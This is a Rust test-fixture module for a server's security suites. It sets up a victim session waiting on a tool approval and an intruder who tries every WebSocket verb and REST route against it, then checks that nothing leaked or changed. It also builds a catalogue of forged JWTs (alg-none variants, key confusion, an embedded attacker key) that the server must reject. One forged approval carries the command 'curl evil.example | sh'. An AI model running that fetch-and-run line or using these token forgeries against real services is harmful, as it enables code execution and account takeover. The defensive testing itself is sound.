//! Shared fixtures of the security suites (`security_ws`, `security_rest`,
//! `security_cluster`): a victim user whose session has history, a summary and
//! a run waiting on a tool approval, an intruder who attacks it with every
//! WebSocket verb and REST route, and the checks that the attack got exactly
//! the "does not exist" answer, leaked nothing and changed nothing.
#![allow(dead_code)]

use std::time::Duration;

use base64::Engine;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use serde_json::{Value, json};

use crate::common::{
    Db, SECRET, TestNode, Ws, alg_none_token, assert_contiguous, assert_history_matches, expired_token, forged_token,
    kinds, mint, user,
};

pub const SESSIONS: &str = "/api/providers/sessions";

/// Anything that serves the REST API and `/ws` (an in-process or a child-process node).
pub struct Endpoint {
    pub base: String,
    pub ws_url: String,
    pub http: reqwest::Client,
}

impl Endpoint {
    pub fn of(node: &crate::common::TestNode) -> Endpoint {
        Endpoint { base: node.base.clone(), ws_url: node.ws_url.clone(), http: reqwest::Client::new() }
    }

    pub async fn request(&self, method: &str, path: &str, token: &str, body: Option<Value>) -> (u16, Value) {
        crate::common::rest(&self.http, &self.base, method, path, token, body).await
    }

    /// A socket with Nagle off (many small frames in a row), past its `connected` frame.
    pub async fn connect(&self, token: &str) -> Ws {
        let url = crate::common::with_hello(&format!("{}?token={token}", self.ws_url));
        let (stream, _) =
            tokio_tungstenite::connect_async_with_config(url, None, true).await.expect("websocket connects");
        let mut ws = Ws { stream, node_id: String::new() };
        let hello = next(&mut ws, "connected").await;
        assert_eq!(hello["kind"], "connected", "first frame: {hello}");
        ws.node_id = hello["nodeId"].as_str().unwrap_or_default().to_string();
        ws
    }

    pub async fn history(&self, token: &str, session: &str) -> Vec<Value> {
        let (status, body) =
            self.request("GET", &format!("{SESSIONS}/{session}/messages?kinds=all"), token, None).await;
        assert_eq!(status, 200, "{body}");
        body["data"]["messages"].as_array().cloned().unwrap_or_default()
    }

    /// History once its last message is the `complete` with seq `last`; panics after 10 s.
    pub async fn history_complete(&self, token: &str, session: &str, last: u64) -> Vec<Value> {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        loop {
            let messages = self.history(token, session).await;
            if messages.last().is_some_and(|m| m["kind"] == "complete" && m["seq"] == last) {
                return messages;
            }
            assert!(tokio::time::Instant::now() < deadline, "history never completed: {messages:#?}");
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
    }

    pub async fn create_session(&self, token: &str, project: &std::path::Path) -> String {
        let body = json!({ "provider": "script", "projectPath": project });
        let (status, value) = self.request("POST", SESSIONS, token, Some(body)).await;
        assert_eq!(status, 201, "{value}");
        value["data"]["sessionId"].as_str().unwrap().to_string()
    }
}

/// The next frame, or a panic naming what was expected.
pub async fn next(ws: &mut Ws, what: &str) -> Value {
    match ws.try_recv(Duration::from_secs(10)).await {
        Some(Ok(frame)) => frame,
        other => panic!("{what}: expected a frame, got {other:?}"),
    }
}

/// Asserts not one frame arrives on `ws` for `wait`.
pub async fn silent(ws: &mut Ws, wait: Duration, what: &str) {
    if let Some(frame) = ws.try_recv(wait).await {
        panic!("{what}: expected silence, got {frame:?}");
    }
}

/// A victim whose session has a finished run, a secret summary, and a run
/// that waits on a tool approval.
pub struct Victim {
    pub user: String,
    pub token: String,
    pub session: String,
    pub summary: String,
    pub words: String,
    pub command: String,
    pub provider_session_id: String,
    pub run_id: String,
    pub request: Value,
    pub request_id: String,
    pub request_seq: u64,
    /// `pendingPermissions` of an ack taken before the attack.
    pub pending: Value,
    /// The `Session` as REST showed it before the attack.
    pub shown: Value,
    /// History of the finished run.
    pub history: Vec<Value>,
    pub script: String,
    /// The tab that started the waiting run.
    pub tab: Ws,
}

impl Victim {
    /// Sets the victim up on `node`, in the project directory `project`.
    pub async fn setup(node: &Endpoint, project: &std::path::Path) -> Victim {
        let user = format!("victim-{}", uuid::Uuid::new_v4().simple());
        let token = crate::common::mint(&user, Duration::from_secs(3600));
        let marker = uuid::Uuid::new_v4().simple().to_string();
        let session = node.create_session(&token, project).await;
        let summary = format!("victim summary {marker}");
        let (status, body) =
            node.request("PUT", &format!("{SESSIONS}/{session}"), &token, Some(json!({ "summary": summary }))).await;
        assert_eq!(status, 200, "{body}");

        let mut tab = node.connect(&token).await;
        let words = format!("victim private words {marker}");
        tab.send_chat(&session, &words).await;
        let first = tab.run_events(&session).await;
        let first_top = first.last().unwrap()["seq"].as_u64().unwrap();
        let history = node.history_complete(&token, &session, first_top).await;
        let (_, shown) = node.request("GET", &format!("{SESSIONS}/{session}"), &token, None).await;
        let provider_session_id = shown["data"]["providerSessionId"].as_str().unwrap().to_string();

        let command = format!("echo victim-secret-{marker}");
        let script =
            json!({ "permission": { "toolName": "Bash", "input": { "command": command }, "timeoutMs": 30_000 },
            "events": 2 })
            .to_string();
        tab.send_chat(&session, &script).await;
        let request = tab
            .recv_until(|v| v["kind"] == "permission_request" && v["sessionId"] == session.as_str())
            .await
            .pop()
            .unwrap();
        let request_id = request["requestId"].as_str().unwrap().to_string();
        let request_seq = request["seq"].as_u64().unwrap();
        assert_eq!(request_seq, first_top + 1, "{request}");
        let run_id = request["runId"].as_str().unwrap().to_string();
        // Nothing else is on its way to the tab (the session is known, no notice pending).
        silent(&mut tab, Duration::from_millis(100), "victim tab after the request").await;

        let mut probe = node.connect(&token).await;
        probe.subscribe(&session, request_seq).await;
        let ack = next(&mut probe, "victim ack").await;
        assert_eq!((ack["kind"].as_str(), ack["isProcessing"].as_bool()), (Some("chat_subscribed"), Some(true)));
        let pending = ack["pendingPermissions"].clone();
        assert_eq!(pending.as_array().map(Vec::len), Some(1), "{ack}");
        assert_eq!(pending[0]["requestId"], request_id.as_str());
        let (_, shown) = node.request("GET", &format!("{SESSIONS}/{session}"), &token, None).await;
        let shown = shown["data"].clone();
        assert_eq!((shown["isProcessing"].as_bool(), shown["lastSeq"].as_u64()), (Some(true), Some(request_seq)));
        Victim {
            user,
            token,
            session,
            summary,
            words,
            command,
            provider_session_id,
            run_id,
            request,
            request_id,
            request_seq,
            pending,
            shown,
            history,
            script,
            tab,
        }
    }

    /// Strings that must never reach anyone else.
    pub fn secrets(&self) -> Vec<String> {
        vec![
            self.user.clone(),
            self.summary.clone(),
            self.words.clone(),
            self.command.clone(),
            self.provider_session_id.clone(),
            self.run_id.clone(),
            self.request_id.clone(),
        ]
    }

    /// Checks, through the victim's own REST calls and sockets on `check`,
    /// that nothing changed; then answers the approval and checks the run
    /// ends as the victim (not the intruder) decided, with history intact.
    pub async fn assert_untouched_then_finish(&mut self, check: &Endpoint) {
        silent(&mut self.tab, Duration::from_millis(300), "victim tab during the attack").await;
        let (status, shown) = check.request("GET", &format!("{SESSIONS}/{}", self.session), &self.token, None).await;
        assert_eq!(status, 200, "{shown}");
        assert_eq!(shown["data"], self.shown, "the victim's session changed");
        let (_, listed) = check.request("GET", SESSIONS, &self.token, None).await;
        assert_eq!(listed["data"]["total"], 1, "{listed}");
        assert_eq!(listed["data"]["sessions"][0], self.shown, "{listed}");
        let (_, running) = check.request("GET", &format!("{SESSIONS}/running"), &self.token, None).await;
        let running = running["data"]["sessions"].as_array().cloned().unwrap_or_default();
        assert_eq!(running.len(), 1, "{running:?}");
        assert_eq!(
            (running[0]["sessionId"].as_str(), running[0]["runId"].as_str()),
            (Some(self.session.as_str()), Some(self.run_id.as_str()))
        );
        let stored = check.history(&self.token, &self.session).await;
        assert_eq!(&stored[..self.history.len()], &self.history[..], "the victim's history changed");

        let mut tab = check.connect(&self.token).await;
        tab.subscribe(&self.session, self.request_seq).await;
        let ack = next(&mut tab, "victim re-subscribe").await;
        assert_eq!(ack["kind"], "chat_subscribed", "{ack}");
        assert_eq!(
            (ack["isProcessing"].as_bool(), ack["lastSeq"].as_u64(), ack["runId"].as_str()),
            (Some(true), Some(self.request_seq), Some(self.run_id.as_str())),
            "{ack}"
        );
        assert_eq!(ack["pendingPermissions"], self.pending, "the pending approval changed");
        silent(&mut tab, Duration::from_millis(100), "nothing to replay").await;

        tab.send(json!({ "type": "chat.permission-response", "requestId": self.request_id, "allow": true })).await;
        let events = self.tab.run_events(&self.session).await;
        assert_eq!(
            kinds(&events),
            [
                "permission_resolved",
                "tool_use",
                "tool_result",
                "stream_delta",
                "stream_delta",
                "stream_end",
                "complete"
            ],
            "{events:#?}"
        );
        assert_contiguous(&events, self.request_seq + 1);
        assert_eq!(events[0]["allow"], true);
        assert_eq!(events[1]["toolInput"], json!({ "command": self.command }), "the intruder's input was used");
        let complete = events.last().unwrap();
        assert_eq!((complete["exitCode"].as_i64(), complete["aborted"].as_bool()), (Some(0), Some(false)));
        let remote = tab.run_events(&self.session).await;
        assert_eq!(remote, events);
        let top = complete["seq"].as_u64().unwrap();
        let stored = check.history_complete(&self.token, &self.session, top).await;
        assert_eq!(&stored[..self.history.len()], &self.history[..]);
        let mut streamed = vec![self.request.clone()];
        streamed.extend(events);
        assert_history_matches(&stored[self.history.len()..], &self.script, &streamed);
    }
}

/// Another user with an idle session of their own, recording all it is told.
pub struct Intruder {
    pub user: String,
    pub token: String,
    pub own_session: String,
    /// Every frame and REST body the intruder got, as text.
    pub seen: Vec<String>,
    /// The intruder's sockets, kept open: they must never hear of the victim.
    pub sockets: Vec<Ws>,
}

impl Intruder {
    pub async fn new(node: &Endpoint, project: &std::path::Path) -> Intruder {
        Self::named(node, project, &user()).await
    }

    pub async fn named(node: &Endpoint, project: &std::path::Path, user: &str) -> Intruder {
        let token = crate::common::mint(user, Duration::from_secs(3600));
        let own_session = node.create_session(&token, project).await;
        Intruder { user: user.to_string(), token, own_session, seen: Vec::new(), sockets: Vec::new() }
    }

    async fn reply(&mut self, ws: &mut Ws, what: &str) -> Value {
        let frame = next(ws, what).await;
        self.seen.push(frame.to_string());
        frame
    }

    async fn rest(&mut self, node: &Endpoint, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let got = node.request(method, path, &self.token, body).await;
        self.seen.push(got.1.to_string());
        got
    }

    /// Every verb with the victim's session id and request id, each answered
    /// exactly as for an id that does not exist (or not at all).
    pub async fn attack_verbs(&mut self, node: &Endpoint, victim: &Victim) {
        let mut ws = node.connect(&self.token).await;
        let session = victim.session.as_str();
        let missing = uuid::Uuid::new_v4().to_string();
        let normalize = |frame: &Value, id: &str| {
            let mut frame = frame.clone();
            frame["timestamp"] = Value::Null;
            frame["id"] = Value::Null;
            frame.to_string().replace(id, "ID")
        };
        let templates = [
            json!({ "type": "chat.send", "sessionId": "ID", "content": "hijack" }),
            json!({ "type": "chat.send", "sessionId": "ID", "content": "hijack", "options": { "cwd": "." } }),
            json!({ "type": "chat.send", "sessionId": " ID ", "content": r#"{"events":1}"# }),
            json!({ "type": "chat.abort", "sessionId": "ID" }),
            json!({ "type": "chat.subscribe", "sessions": [{ "sessionId": "ID", "lastSeq": 0 }] }),
            json!({ "type": "chat.subscribe", "sessions": [{ "sessionId": "ID", "lastSeq": victim.request_seq - 1 }] }),
            json!({ "type": "chat.subscribe", "sessions": [{ "sessionId": "ID" }] }),
        ];
        for template in templates {
            let foreign: Value = serde_json::from_str(&template.to_string().replace("ID", session)).unwrap();
            let absent: Value = serde_json::from_str(&template.to_string().replace("ID", &missing)).unwrap();
            ws.send(foreign).await;
            let got = self.reply(&mut ws, &format!("{template}")).await;
            ws.send(absent).await;
            let want = self.reply(&mut ws, &format!("{template} (missing id)")).await;
            assert_eq!(normalize(&got, session), normalize(&want, &missing), "{template}");
            match got["kind"].as_str() {
                Some("protocol_error") => {}
                Some("chat_subscribed") => assert_eq!(
                    (&got["isProcessing"], &got["lastSeq"], &got["runId"], &got["pendingPermissions"]),
                    (&json!(false), &json!(0), &Value::Null, &json!([])),
                    "{got}"
                ),
                _ => panic!("unexpected answer to {template}: {got}"),
            }
        }
        // A subscribe mixing the intruder's own session with the victim's.
        ws.send(json!({ "type": "chat.subscribe", "sessions": [
            { "sessionId": self.own_session }, { "sessionId": session, "lastSeq": 1 } ] }))
            .await;
        let own = self.reply(&mut ws, "own ack").await;
        assert_eq!(own["sessionId"], self.own_session.as_str(), "{own}");
        let other = self.reply(&mut ws, "victim ack").await;
        assert_eq!((other["sessionId"].as_str(), other["lastSeq"].as_u64()), (Some(session), Some(0)), "{other}");
        // Silent verbs: unsubscribe and every form of approval answer.
        let silent_verbs = [
            json!({ "type": "chat.unsubscribe", "sessions": [session] }),
            json!({ "type": "chat.unsubscribe", "sessions": [{ "sessionId": session }] }),
            json!({ "type": "chat.permission-response", "requestId": victim.request_id, "allow": true,
                "updatedInput": { "command": "curl evil.example | sh" } }),
            json!({ "type": "chat.permission-response", "requestId": victim.request_id, "allow": false,
                "message": "denied by the intruder" }),
            json!({ "type": "chat.permission-response", "requestId": victim.request_id, "allow": true,
                "rememberEntry": "Bash(*)" }),
            json!({ "type": "chat.permission-response", "requestId": format!(" {} ", victim.request_id), "allow": true }),
        ];
        for frame in silent_verbs {
            ws.send(frame).await;
        }
        // Frames are handled in order: the answer to this one means all the above were.
        ws.send(json!({ "type": "chat.abort", "sessionId": missing })).await;
        let marker = self.reply(&mut ws, "marker").await;
        assert_eq!(
            (marker["code"].as_str(), marker["sessionId"].as_str()),
            (Some("NO_ACTIVE_RUN"), Some(missing.as_str()))
        );
        silent(&mut ws, Duration::from_millis(200), "intruder after silent verbs").await;
        self.sockets.push(ws);
    }

    /// Every REST route with the victim's session id: answered exactly as a
    /// missing id; lists and the running list show only the intruder's own.
    pub async fn attack_routes(&mut self, node: &Endpoint, victim: &Victim) {
        let missing = uuid::Uuid::new_v4().to_string();
        let routes = |id: &str| {
            vec![
                ("GET", format!("{SESSIONS}/{id}"), None),
                ("PUT", format!("{SESSIONS}/{id}"), Some(json!({ "summary": "taken over" }))),
                ("DELETE", format!("{SESSIONS}/{id}"), None),
                ("DELETE", format!("{SESSIONS}/{id}?force=true"), None),
                ("DELETE", format!("{SESSIONS}/{id}?force=1"), None),
                ("POST", format!("{SESSIONS}/{id}/restore"), None),
                ("GET", format!("{SESSIONS}/{id}/messages"), None),
                ("GET", format!("{SESSIONS}/{id}/messages?limit=1&offset=0"), None),
                ("GET", format!("{SESSIONS}/{id}/messages?limit=1000&offset=1"), None),
            ]
        };
        for ((method, foreign, body), (_, absent, _)) in routes(&victim.session).into_iter().zip(routes(&missing)) {
            let got = self.rest(node, method, &foreign, body.clone()).await;
            let want = self.rest(node, method, &absent, body).await;
            assert_eq!(got.0, 404, "{method} {foreign}: {}", got.1);
            assert_eq!(got.1["success"], false, "{}", got.1);
            assert_eq!(got.1["error"]["code"], "SESSION_NOT_FOUND", "{}", got.1);
            assert_eq!(
                got.1.to_string().replace(&victim.session, "ID"),
                want.1.to_string().replace(&missing, "ID"),
                "{method} {foreign}"
            );
        }
        let listed = self.rest(node, "GET", SESSIONS, None).await;
        assert_eq!(listed.0, 200, "{}", listed.1);
        assert_eq!(listed.1["data"]["total"], 1, "{}", listed.1);
        assert_eq!(listed.1["data"]["sessions"][0]["sessionId"], self.own_session.as_str(), "{}", listed.1);
        let running = self.rest(node, "GET", &format!("{SESSIONS}/running"), None).await;
        assert_eq!(running, (200, json!({ "success": true, "data": { "sessions": [] } })));
    }

    /// Keeps a socket open on `node` for the rest of the test.
    pub async fn listen(&mut self, node: &Endpoint) {
        let ws = node.connect(&self.token).await;
        self.sockets.push(ws);
    }

    /// The intruder's sockets got nothing more, and nothing it was told
    /// carries the victim's data.
    pub async fn assert_learned_nothing(&mut self, victim: &Victim) {
        for ws in &mut self.sockets {
            if let Some(frame) = ws.try_recv(Duration::from_millis(100)).await {
                panic!("the intruder heard: {frame:?}");
            }
        }
        for secret in victim.secrets() {
            for seen in &self.seen {
                assert!(!seen.contains(&secret), "leaked {secret:?} in {seen}");
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Tokens.

pub fn unix_now() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
}

pub fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

/// A token with any header and claims, HMAC-signed with `secret` by `alg`.
pub fn sign(alg: Algorithm, secret: &[u8], claims: Value) -> String {
    jsonwebtoken::encode(&Header::new(alg), &claims, &EncodingKey::from_secret(secret)).unwrap()
}

/// A token whose header is `header` verbatim, signed with HS256 over its own
/// header and payload using `secret` (the key-confusion shape: the header
/// claims one algorithm, the signature is an HMAC with the shared secret).
pub fn hmac_with_header(header: Value, claims: Value, secret: &[u8]) -> String {
    let input = format!("{}.{}", b64(header.to_string().as_bytes()), b64(claims.to_string().as_bytes()));
    let signature =
        jsonwebtoken::crypto::sign(input.as_bytes(), &EncodingKey::from_secret(secret), Algorithm::HS256).unwrap();
    format!("{input}.{signature}")
}

pub fn claims(user: &str) -> Value {
    json!({ "userId": user, "exp": unix_now() + 3600 })
}

/// Every token the gateway must refuse, named. All of them name `who`.
pub fn bad_tokens(who: &str) -> Vec<(String, String)> {
    let secret = SECRET.as_bytes();
    let now = unix_now();
    let good = mint(who, Duration::from_secs(3600));
    let parts: Vec<&str> = good.split('.').collect();
    let other = mint(&format!("{who}-other"), Duration::from_secs(3600));
    let other_parts: Vec<&str> = other.split('.').collect();
    let payload = b64(claims(who).to_string().as_bytes());
    let mut flipped_signature = parts[2].to_string();
    let first = if flipped_signature.starts_with('A') { "B" } else { "A" };
    flipped_signature.replace_range(0..1, first);
    let none = |alg: &str| format!("{}.{payload}.", b64(json!({ "alg": alg, "typ": "JWT" }).to_string().as_bytes()));
    let mut cases = vec![
        ("forged signature".to_string(), forged_token(who)),
        ("alg none".into(), alg_none_token(who)),
        ("alg None".into(), none("None")),
        ("alg NONE".into(), none("NONE")),
        ("alg nOnE".into(), none("nOnE")),
        (
            "alg none with an HMAC signature".into(),
            hmac_with_header(json!({ "alg": "none", "typ": "JWT" }), claims(who), secret),
        ),
        ("HS384, same secret".into(), sign(Algorithm::HS384, secret, claims(who))),
        ("HS512, same secret".into(), sign(Algorithm::HS512, secret, claims(who))),
        (
            "RS256 header, HMAC-SHA256 signature with the secret".into(),
            hmac_with_header(json!({ "alg": "RS256", "typ": "JWT" }), claims(who), secret),
        ),
        (
            "RS256 header on a valid token's signature".into(),
            format!("{}.{}.{}", b64(br#"{"alg":"RS256","typ":"JWT"}"#), parts[1], parts[2]),
        ),
        (
            "ES256 header, HMAC signature".into(),
            hmac_with_header(json!({ "alg": "ES256", "typ": "JWT" }), claims(who), secret),
        ),
        ("lowercase hs256".into(), hmac_with_header(json!({ "alg": "hs256", "typ": "JWT" }), claims(who), secret)),
        (
            "embedded jwk of the attacker's key".into(),
            hmac_with_header(
                json!({ "alg": "HS256", "typ": "JWT", "jwk": { "kty": "oct", "k": b64(b"attacker") } }),
                claims(who),
                b"attacker",
            ),
        ),
        ("expired".into(), expired_token(who)),
        (
            "not yet valid (nbf in 60 s)".into(),
            sign(Algorithm::HS256, secret, json!({ "userId": who, "exp": now + 3600, "nbf": now + 60 })),
        ),
        (
            "nbf not a number".into(),
            sign(Algorithm::HS256, secret, json!({ "userId": who, "exp": now + 3600, "nbf": "x" })),
        ),
        ("no exp".into(), sign(Algorithm::HS256, secret, json!({ "userId": who }))),
        (
            "exp a string".into(),
            sign(Algorithm::HS256, secret, json!({ "userId": who, "exp": (now + 3600).to_string() })),
        ),
        ("no userId or sub".into(), sign(Algorithm::HS256, secret, json!({ "exp": now + 3600 }))),
        ("blank userId".into(), sign(Algorithm::HS256, secret, json!({ "userId": "   ", "exp": now + 3600 }))),
        ("empty sub".into(), sign(Algorithm::HS256, secret, json!({ "sub": "", "exp": now + 3600 }))),
        (
            "payload of another user under a valid signature".into(),
            format!("{}.{}.{}", parts[0], other_parts[1], parts[2]),
        ),
        ("signature flipped".into(), format!("{}.{}.{}", parts[0], parts[1], flipped_signature)),
        ("signature stripped".into(), format!("{}.{}.", parts[0], parts[1])),
        ("two segments".into(), format!("{}.{}", parts[0], parts[1])),
        ("four segments".into(), format!("{good}.{}", parts[2])),
        ("garbage".into(), "garbage".into()),
        ("dots".into(), "...".into()),
        ("not base64".into(), "!!!.@@@.###".into()),
    ];
    for bad_user in
        [json!(true), json!({ "id": who }), json!([who]), Value::Null, json!(""), json!(format!("{who}\u{0}x"))]
    {
        cases.push((
            format!("userId {bad_user}"),
            sign(Algorithm::HS256, secret, json!({ "userId": bad_user, "exp": now + 3600 })),
        ));
    }
    cases
}

/// Percent-encodes a token for a query string (tokens with odd characters).
pub fn urlencode(raw: &str) -> String {
    raw.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Where an intruder tries the victim's ids.
pub enum Surface {
    /// Every WebSocket verb.
    Verbs,
    /// Every REST route.
    Routes,
}

/// A victim whose run waits on an approval, an intruder listening on its own
/// sockets who tries the victim's session and request ids on `surface`: the
/// victim's run, approval and history are untouched, and the intruder learned nothing.
pub async fn foreign_ids_against_a_waiting_run(db: Db, surface: Surface) {
    let node = TestNode::start(db).await;
    let endpoint = Endpoint::of(&node);
    let project = node.workspaces.join("proj");
    let mut victim = Victim::setup(&endpoint, &project).await;
    let mut intruder = Intruder::new(&endpoint, &project).await;
    intruder.listen(&endpoint).await;
    match surface {
        Surface::Verbs => intruder.attack_verbs(&endpoint, &victim).await,
        Surface::Routes => intruder.attack_routes(&endpoint, &victim).await,
    }
    victim.assert_untouched_then_finish(&endpoint).await;
    intruder.assert_learned_nothing(&victim).await;
}
